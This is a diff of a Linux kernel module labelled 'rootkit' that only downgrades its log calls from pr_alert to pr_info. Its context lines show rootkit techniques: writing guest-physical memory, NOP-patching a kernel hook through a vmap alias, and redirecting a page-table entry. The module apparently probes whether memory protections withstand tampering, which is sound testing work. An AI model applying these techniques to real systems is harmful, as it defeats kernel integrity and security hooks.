@@ -73,7 +73,7 @@ static u8 *hook_site(unsigned long function)
 		return code;
 	if (code[4] == 0xe8)
 		return code + 4;
-	pr_alert("rootkit: no hook at %px (%*ph)\n", code, 9, code);
+	pr_info("rootkit: no hook at %px (%*ph)\n", code, 9, code);
 	return NULL;
 }
 
@@ -87,14 +87,14 @@ static void probe(void)
 		u64 before, after;
 
 		if (!window) {
-			pr_alert("rootkit: guest-physical %#lx cannot be mapped\n", gpa);
+			pr_info("rootkit: guest-physical %#lx cannot be mapped\n", gpa);
 			continue;
 		}
 		before = readq(window);
 		writeq(0x6b6f6f747265746eULL, window);
 		after = readq(window);
 		iounmap(window);
-		pr_alert("rootkit: guest-physical %#lx: read %#llx, wrote, read %#llx\n", gpa, before, after);
+		pr_info("rootkit: guest-physical %#lx: read %#llx, wrote, read %#llx\n", gpa, before, after);
 	}
 }
 
@@ -109,12 +109,12 @@ static void overwrite_hook(void)
 	page = pfn_to_page(physical_of((unsigned long)site) >> PAGE_SHIFT);
 	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
 	if (!alias) {
-		pr_alert("rootkit: no alias for %px\n", site);
+		pr_info("rootkit: no alias for %px\n", site);
 		return;
 	}
-	pr_alert("rootkit: hook at %px before: %*ph\n", site, HOOK_BYTES, site);
+	pr_info("rootkit: hook at %px before: %*ph\n", site, HOOK_BYTES, site);
 	memcpy(alias + offset_in_page(site), nop5, HOOK_BYTES);
-	pr_alert("rootkit: hook at %px after:  %*ph: %s\n", site, HOOK_BYTES, site,
+	pr_info("rootkit: hook at %px after:  %*ph: %s\n", site, HOOK_BYTES, site,
 		 memcmp(site, nop5, HOOK_BYTES) ? "it withstood" : "gone");
 	vunmap(alias);
 }
@@ -140,7 +140,7 @@ static void remap_hook(void)
 		return;
 	entry = leaf_entry((unsigned long)site, &shift);
 	if (!entry || shift > 21 || offset_in_page(site) > PAGE_SIZE - HOOK_BYTES) {
-		pr_alert("rootkit: cannot remap %px\n", site);
+		pr_info("rootkit: cannot remap %px\n", site);
 		return;
 	}
 	copy = alloc_page(GFP_KERNEL);
@@ -164,7 +164,7 @@ static void remap_hook(void)
 		WRITE_ONCE(*entry, page_to_phys(copy) | (*entry & ~PTE_ADDRESS));
 	}
 	on_each_cpu(flush, NULL, 1);
-	pr_alert("rootkit: page of %px now shows guest-physical %#llx: %*ph\n", site,
+	pr_info("rootkit: page of %px now shows guest-physical %#llx: %*ph\n", site,
 		 (u64)page_to_phys(copy), HOOK_BYTES, site);
 }
 
